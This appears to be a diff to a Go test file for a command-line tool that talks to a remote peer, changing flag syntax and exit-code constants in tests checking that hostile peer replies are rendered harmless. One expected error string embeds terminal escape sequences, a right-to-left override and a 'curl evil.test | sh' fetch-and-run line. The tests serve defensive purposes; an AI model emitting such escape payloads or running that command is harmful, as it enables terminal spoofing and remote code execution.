@@ -68,8 +68,8 @@ func refusing(t *testing.T, text string) string {
 func TestHostileRefusal(t *testing.T) {
 	t.Parallel()
 	addr := refusing(t, escapes)
-	for _, args := range []string{"ping -count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf -target %", "cp %/f " + t.TempDir()} {
-		q := run(t, 1, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
+	for _, args := range []string{"ping --count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf --target %", "cp %/f " + t.TempDir()} {
+		q := run(t, exitNotRun, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
 		requireHarmless(t, q)
 		require.Contains(t, q.errors.String(), `the peer refused: \x1b]0;pwned\a\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e`)
 	}
@@ -113,6 +113,6 @@ func TestHostileAnswers(t *testing.T) {
 	requireHarmless(t, run(t, 0, "rpcs", addr))
 	requireHarmless(t, run(t, 0, "rpcs", "-json", addr))
 	requireHarmless(t, run(t, 0, "call", addr, "answers"))
-	requireHarmless(t, run(t, 1, "call", addr, "fails"))
-	requireHarmless(t, run(t, 1, "call", addr, "none"+escapes))
+	requireHarmless(t, run(t, exitHandler, "call", addr, "fails"))
+	requireHarmless(t, run(t, exitNotRun, "call", addr, "none"+escapes))
 }
